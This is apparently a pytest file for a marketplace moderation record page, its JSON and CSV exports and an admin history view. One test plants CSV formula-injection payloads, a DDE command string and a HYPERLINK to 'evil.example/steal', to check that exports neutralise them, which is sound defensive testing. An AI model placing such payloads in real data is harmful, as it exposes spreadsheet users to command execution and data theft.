"""My record: sanctions, appeals with outcomes and blocks beside the audit log, as a page, JSON and safe CSV."""
import csv
import io


from marketplace.moderation import services
from tests.factories import make_admin, make_requester, make_sanction, make_trainer

APPEAL = "The gold key for items 4, 9 and 12 is wrong, please check it again."
DECISION = "Checked: the gold key was wrong for items 4, 9 and 12; the warning is withdrawn."


def test_my_record_tells_the_whole_story_with_outcomes(client, db, login):
    trainer, issuer, second = make_trainer(), make_admin(display_name="Ada"), make_admin(display_name="Bo")
    requester = make_requester(organisation="Aurora AI Lab")
    warning = make_sanction(trainer, issuer)
    appeal = services.file_appeal(trainer, "sanction", warning.id, APPEAL)
    services.decide_appeal(appeal, second, outcome="overturned", reason=DECISION)
    services.block_trainer(requester, trainer.id, reason="Copied captions across thirty images.")
    make_sanction(make_trainer(), issuer, reason="Someone else's sanction: " + "x" * 40)
    db.session.commit()
    login(trainer)
    page = client.get("/my-record").get_data(as_text=True)
    for text in ("Warnings and suspensions", "Warning (platform-wide), citing 1.1", "Ada (admin)",
                 "Appeal overturned on", "Appeals", APPEAL, "Overturned on", "Bo (admin)", DECISION,
                 "Requester blocks", "Blocked from Aurora AI Lab", "Appeal: decided", "Sanction: issued"):
        assert text in page, text
    assert "Someone else" not in page
    data = client.get("/my-record.json").get_json()
    sections = {s["key"]: s["items"] for s in data["sections"]}
    assert sections["sanctions"][0]["outcome"].startswith("Appeal overturned on")
    assert DECISION in sections["appeals"][0]["outcome"] and sections["appeals"][0]["reason"] == APPEAL
    assert sections["blocks"][0]["decided_by"].startswith(requester.display_name)
    assert {e["action"] for e in data["events"]} >= {"sanction.issued", "appeal.filed", "appeal.decided",
                                                     "requester_block.created"}


def test_csv_download_neutralises_spreadsheet_formulas_in_every_cell(client, db, login):
    trainer, admin = make_trainer(), make_admin(display_name="=cmd|' /C calc'!A0")
    make_sanction(trainer, admin, reason='=HYPERLINK("http://evil.example/steal","click") ' + "padding " * 6)
    db.session.commit()
    login(trainer)
    rows = list(csv.reader(io.StringIO(client.get("/my-record.csv").get_data(as_text=True))))
    assert rows[0] == ["section", "time", "what", "decided_by", "reason", "outcome"]
    cells = [cell for row in rows[1:] for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")], "a cell would run as a formula"
    assert any(c.startswith("'=HYPERLINK") for c in cells) and any(c.startswith("'=cmd") for c in cells)


def test_admin_sees_a_persons_full_history_on_one_page(client, db, login):
    trainer, issuer, second = make_trainer(display_name="Amara Okafor"), make_admin(), make_admin()
    warning = make_sanction(trainer, issuer)
    services.file_appeal(trainer, "sanction", warning.id, APPEAL)
    db.session.commit()
    login(second)
    page = client.get(f"/admin/people/{trainer.id}").get_data(as_text=True)
    for text in ("Amara Okafor", trainer.email, "Warning (platform-wide)", APPEAL, "Audit log", "appeal.filed",
                 "Issue a warning or sanction"):
        assert text in page, text
    assert client.get("/admin/people/999999").status_code == 404
    login(trainer)
    assert client.get(f"/admin/people/{trainer.id}").status_code == 403
